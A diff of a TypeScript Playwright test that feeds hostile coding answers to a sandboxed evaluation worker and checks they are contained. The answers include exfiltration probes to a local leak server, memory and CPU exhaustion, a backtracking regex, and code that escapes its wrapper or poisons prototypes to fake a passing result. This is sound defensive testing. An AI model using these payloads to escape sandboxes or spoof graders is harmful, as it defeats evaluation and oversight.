@@ -1,63 +1,81 @@
 // Whatever code an answer has, it can do nothing: hostile answers through the real page and its sandbox.
+import { readFileSync } from 'node:fs';
+import { sandboxPolicy } from '../../src/core/response-headers.ts';
 import { EvaluatePage } from './evaluate-page.ts';
 import { startLeakServer } from './leak-server.ts';
 import { serveScriptedEngine } from './scripted-engine.ts';
 import { expect, test } from './test.ts';
 
 /** Functions of the coding suite, each with code that tells what it could do in the error that it throws. */
-const attacks = (away: string): Readonly<Record<string, string>> => ({
+const attacks: Readonly<Record<string, string>> = {
   add: `
-    const url = ${JSON.stringify(away)};
-    const tries = {
-      fetch: () => fetch(url),
-      xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(); },
-      socket: () => new WebSocket(url.replace('http', 'ws')),
-      events: () => new EventSource(url),
-      transport: () => new WebTransport(url.replace('http:', 'https:')),
-      beacon: () => navigator.sendBeacon(url, 'x'),
-      script: () => importScripts(url),
-      module: () => import(url),
-      eval: () => eval('1 + 1'),
-      make: () => Function('return 1')(),
-    };
-    const told = Object.entries(tries).map(([name, run]) => {
-      try { run()?.catch?.(() => {}); return name; } catch { return name + '!'; }
-    });
-    function add() { throw Error(told.join(' ')); }`,
-  isEven: `
-    const names = ['document', 'window', 'localStorage', 'parent', 'top', 'opener'];
-    const told = names.filter((name) => name in self).join() || 'nothing';
-    function isEven() { throw Error('found ' + told + ' at ' + location.origin); }`,
-  largest: `
-    const told = ['caches', 'cookieStore'].filter((name) => name in self);
-    try { indexedDB.open('corral-conversations'); told.push('opened'); } catch { told.push('none'); }
-    function largest() { throw Error('storage: ' + told.join()); }`,
+    const names = ['document', 'window', 'self', 'parent', 'localStorage', 'indexedDB', 'caches', 'location',
+      'fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'postMessage', 'Worker', 'WebAssembly',
+      'navigator', 'process', 'require', 'setTimeout', 'queueMicrotask'];
+    function add() { throw Error('found ' + (names.filter((name) => name in globalThis).join() || 'nothing')); }`,
+  isEven: 'const kept = []; function isEven() { while (true) kept.push(new Array(1e5).fill(1)); }',
+  largest: 'function largest() { let text = "x"; while (true) text += text; }',
   reversed: 'function reversed() { for (;;) {} }',
   countVowels: 'for (;;) {}',
-  factorial: `
-    const kept = [];
-    function factorial() { for (;;) kept.push(new Uint8Array(1e8).fill(1)); }`,
-  fibonacci: `
-    const told = [typeof Worker, typeof SharedWorker, typeof WebAssembly, typeof SharedArrayBuffer];
-    function fibonacci() { throw Error(told.join()); }`,
-  // Leaves the function that it stands in, and claims to have passed.
+  isPalindrome: 'const isPalindrome = () => /^(a+)+$/.test("a".repeat(40) + "b");',
+  factorial:
+    'const kept = []; function factorial() { for (;;) kept.push(new Uint8Array(1e7).fill(1)); }',
+  fibonacci: 'const fibonacci = (n) => fibonacci(n + 1) + 1;',
+  // Leaves the function that it might stand in, and claims to have passed.
   unique: `}); postMessage([{ type: 'value', value: true }, { passed: true }]); (function () {`,
-  median: `postMessage('passed'); function median() {}`,
+  median: `
+    Object.prototype.type = 'value'; Array.prototype.map = Array.prototype.every = () => true;
+    JSON.stringify = () => '[3]'; Object.defineProperty(Object.prototype, 'value', { get: () => 3 });
+    function median() { return { toJSON: () => ({ __proto__: { type: 'passed' }, get value() { return 3; } }) }; }`,
   wordCounts: 'function wordCounts( {',
-  isPrime: 'self.close(); function isPrime() {}',
+  isPrime: 'const isPrime = () => Array(2 ** 32 - 1).fill(0);',
+  // No place in that loop looks at the clock: the worker has to be ended.
+  toRoman: 'const toRoman = () => Array(2 ** 32 - 1).join("x");',
+  flatten: `
+    function* endless() { for (;;) yield 1; }
+    function flatten() { for (const one of endless()) one; }`,
+  balanced: `
+    (function on() { Promise.resolve().then(on); })();
+    async function balanced() { for (;;) await 1; }`,
+  chunks:
+    'function chunks() { let nested = []; for (let i = 0; i < 1e5; i++) nested = [nested]; return nested; }',
+  caesar: 'const caesar = () => { for (;;) { try { for (;;) {} } finally { continue; } } };',
+  twoSum: 'function twoSum() { return { get value() { for (;;) {} } }; }',
   gcd: 'function gcd(a, b) { while (b) [a, b] = [b, a % b]; return a; }',
-});
+};
+
+/** What a worker in the frame can do by itself, were the interpreter no wall at all. */
+const probe = (url: string) => `
+  const tries = {
+    fetch: () => fetch(${JSON.stringify(url)}),
+    xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', ${JSON.stringify(url)}, false); xhr.send(); },
+    script: () => importScripts(${JSON.stringify(url)}),
+    module: () => import(${JSON.stringify(url)}),
+    socket: () => new Promise((resolve, reject) => {
+      const socket = new WebSocket(${JSON.stringify(url.replace('http', 'ws'))});
+      socket.onopen = resolve; socket.onerror = () => reject(Error());
+    }),
+    eval: () => eval('1 + 1'),
+    make: () => Function('return 1')(),
+    database: () => new Promise((resolve, reject) => {
+      const request = indexedDB.open('corral-conversations');
+      request.onsuccess = resolve; request.onerror = () => reject(Error());
+    }),
+  };
+  onmessage = async () => {
+    postMessage('started');
+    const could = ['document', 'parent', 'caches'].filter((name) => name in self);
+    for (const [name, run] of Object.entries(tries)) {
+      try { await run(); could.push(name); } catch {}
+    }
+    postMessage([could.join() || 'nothing', location.origin]);
+  };`;
 
 // The engine's place is taken by a script of the test, which the service worker would not keep.
 test.use({ serviceWorkers: 'block' });
 
-test('contains network, page, storage, endless loops, memory and workers', async ({
-  page,
-  baseURL,
-}) => {
-  const elsewhere = await startLeakServer();
-  const code = attacks(`${elsewhere.url}/leak`);
-  const script = Object.entries(code).map(([name, body]) => [
+test('contains network, page, storage, endless loops and memory', async ({ page, baseURL }) => {
+  const script = Object.entries(attacks).map(([name, body]) => [
     `JavaScript function ${name}(`,
     `\`\`\`js\n${body}\n// this is ${name}\n\`\`\``,
   ]);
@@ -69,21 +87,29 @@ test('contains network, page, storage, endless loops, memory and workers', async
 
   const answers = await evaluate.answers(run);
   const told = (name: string) => answers.find((one) => one.includes(`// this is ${name}\n`)) ?? '';
-  expect(told('add')).toMatch(/xhr!.* transport! beacon! script! .*eval! make!/);
-  expect(elsewhere.leaked).toEqual([]);
-  expect(engine.requests.filter(({ path }) => path.includes('leak'))).toEqual([]);
-  expect(told('isEven')).toContain('found nothing at null');
-  expect(told('largest')).toContain('storage: none');
-  for (const name of ['reversed', 'countVowels']) {
-    expect(told(name), name).toContain('wrong (timed out)');
+  expect(told('add')).toContain('wrong (Error: found nothing)');
+  const late = [
+    'reversed',
+    'countVowels',
+    'isPalindrome',
+    'toRoman',
+    'flatten',
+    'caesar',
+    'twoSum',
+  ];
+  for (const name of late) expect(told(name), name).toContain('wrong (timed out)');
+  for (const name of ['isEven', 'factorial', 'isPrime']) {
+    expect(told(name), name).toContain('wrong (InternalError: out of memory)');
   }
-  expect(told('factorial')).toContain('wrong (RangeError: out of memory)');
-  expect(told('fibonacci')).toContain('undefined,undefined,undefined,undefined');
-  for (const name of ['unique', 'median', 'wordCounts', 'isPrime'])
-    expect(told(name)).toContain('wrong');
+  expect(told('largest')).toMatch(/wrong \(InternalError: (string too long|out of memory)\)/);
+  expect(told('fibonacci')).toMatch(/wrong \(.*stack/);
+  expect(told('chunks')).toMatch(/wrong \(.*stack/);
+  for (const name of ['unique', 'median', 'wordCounts', 'balanced'])
+    expect(told(name), name).toContain('wrong');
   // What came before it did no harm to what came after it.
   expect(told('gcd')).toContain('right');
   expect(await evaluate.scores(run)).toEqual([['Coding', '5 % 1 of 21']]);
+  expect(await page.evaluate(() => 'type' in {})).toBe(false);
 
   // The page itself still may not; in a call of its own, since the test's calls are let through.
   const evaluated = page.evaluate(
@@ -99,6 +125,37 @@ test('contains network, page, storage, endless loops, memory and workers', async
       }),
   );
   expect(await evaluated).toBe('EvalError');
-  elsewhere.close();
   await engine.close();
+});
+
+test('gives a worker of the frame no network, no storage and no evaluation of text', async ({
+  page,
+}) => {
+  const elsewhere = await startLeakServer();
+  await page.goto('/');
+  const frameScript = readFileSync('workers/sandbox/frame.js', 'utf8');
+  const parts = { sandboxPolicy, frameScript, program: probe(`${elsewhere.url}/leak`) };
+  const output = page.evaluate(async ({ sandboxPolicy, frameScript, program }) => {
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-scripts');
+    frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="${sandboxPolicy}"><script>${frameScript}</script>`;
+    await new Promise((resolve) => {
+      frame.onload = resolve;
+      document.body.append(frame);
+    });
+    const { port1, port2 } = new MessageChannel();
+    frame.contentWindow?.postMessage('corral-sandbox', '*', [port2]);
+    const ask = (request: object) =>
+      new Promise<{ output?: unknown }>((resolve) => {
+        port1.onmessage = ({ data }) => resolve(data);
+        port1.postMessage(request);
+      });
+    const wasm = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]).buffer;
+    await ask({ type: 'set-up', program, wasm });
+    const reply = await ask({ type: 'run', id: 1, input: null, startMs: 5000, runMs: 20_000 });
+    return reply.output;
+  }, parts);
+  expect(await output).toEqual(['nothing', 'null']);
+  expect(elsewhere.leaked).toEqual([]);
+  elsewhere.close();
 });
